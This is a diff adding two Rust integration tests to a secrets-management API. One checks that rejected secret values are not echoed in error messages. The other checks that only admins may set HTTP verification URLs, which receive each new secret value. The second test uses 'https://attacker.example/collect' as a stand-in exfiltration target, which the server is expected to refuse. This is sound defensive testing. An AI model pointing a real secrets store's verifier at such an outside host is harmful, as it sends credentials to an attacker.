@@ -616,3 +616,115 @@ async fn the_worker_rotates_due_secrets_and_delivers_their_notifications() {
     assert!(pending.as_array().unwrap().is_empty(), "{pending}");
     s.stop().await;
 }
+
+/// A refused body never comes back in the error: neither a numeric value
+/// nor a string value next to a wrong-typed field (issue 7).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn refused_secret_bodies_are_not_echoed() {
+    let s = TestServer::sqlite().await;
+    let numeric = s
+        .put("/v1/secrets/app/key", &s.operator, json!({"value": 987654321}))
+        .await;
+    assert_error(&numeric, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
+    let text = numeric.1.to_string();
+    assert!(!text.contains("987654321"), "{text}");
+    assert!(text.contains("value") && text.contains("expected a string"), "{text}");
+
+    let wrong_type = s
+        .put(
+            "/v1/secrets/app/key",
+            &s.operator,
+            json!({"value": "s3cr3t-XYZ", "type": 12345}),
+        )
+        .await;
+    assert_error(&wrong_type, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
+    let text = wrong_type.1.to_string();
+    assert!(!text.contains("s3cr3t-XYZ") && !text.contains("12345"), "{text}");
+    assert!(text.contains("type"), "{text}");
+
+    // Through the `:rotate` dispatcher (read once as JSON, then as its body).
+    let rotate = s
+        .post("/v1/secrets/app/key:rotate", &s.operator, json!({"value": 55555555}))
+        .await;
+    assert_error(&rotate, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
+    assert!(!rotate.1.to_string().contains("55555555"), "{}", rotate.1);
+
+    // Not JSON at all: only the position.
+    let response = s
+        .client
+        .put(format!("{}/v1/secrets/app/key", s.base))
+        .bearer_auth(&s.operator)
+        .header("content-type", "application/json")
+        .body(r#"{"value": "s3cr3t-XYZ" "#)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let text = response.text().await.unwrap();
+    assert!(!text.contains("s3cr3t-XYZ") && text.contains("line 1"), "{text}");
+    s.stop().await;
+}
+
+/// The HTTP verifier sends each new value to its URL: an operator may not
+/// set or change `http:URL` tests (admin may), everything else is as before.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn only_admins_set_or_change_http_verification_urls() {
+    let s = TestServer::sqlite().await;
+    let refused = s
+        .put(
+            "/v1/secrets/app/exfil",
+            &s.operator,
+            json!({"value": "v1", "verify": ["http:https://attacker.example/collect"]}),
+        )
+        .await;
+    assert_error(&refused, StatusCode::FORBIDDEN, "forbidden");
+    assert!(
+        refused.1["message"].as_str().unwrap().contains("admin"),
+        "{}",
+        refused.1
+    );
+    let (status, _) = s.get("/v1/secrets/app/exfil:status", &s.viewer).await;
+    assert_eq!(status, StatusCode::NOT_FOUND, "nothing was written");
+
+    // Other tests stay the operator's.
+    let plain = s
+        .put(
+            "/v1/secrets/app/exfil",
+            &s.operator,
+            json!({"value": "v1", "verify": ["nonempty"]}),
+        )
+        .await;
+    assert_eq!(plain.0, StatusCode::CREATED, "{}", plain.1);
+
+    // An admin sets a URL; the operator may resend it unchanged but not change it.
+    let url = "http:https://checker.example/health";
+    let admin = s
+        .put("/v1/secrets/app/exfil", &s.admin, json!({"verify": ["nonempty", url]}))
+        .await;
+    assert_eq!(admin.0, StatusCode::OK, "{}", admin.1);
+    let same = s
+        .put(
+            "/v1/secrets/app/exfil",
+            &s.operator,
+            json!({"value": "v3", "verify": ["nonempty", url]}),
+        )
+        .await;
+    assert_eq!(same.0, StatusCode::OK, "{}", same.1);
+    let value_only = s
+        .put("/v1/secrets/app/exfil", &s.operator, json!({"value": "v4"}))
+        .await;
+    assert_eq!(value_only.0, StatusCode::OK, "{}", value_only.1);
+    let changed = s
+        .put(
+            "/v1/secrets/app/exfil",
+            &s.operator,
+            json!({"verify": ["nonempty", "http:https://attacker.example/collect"]}),
+        )
+        .await;
+    assert_error(&changed, StatusCode::FORBIDDEN, "forbidden");
+    let removed = s
+        .put("/v1/secrets/app/exfil", &s.operator, json!({"verify": ["nonempty"]}))
+        .await;
+    assert_error(&removed, StatusCode::FORBIDDEN, "forbidden");
+    s.stop().await;
+}
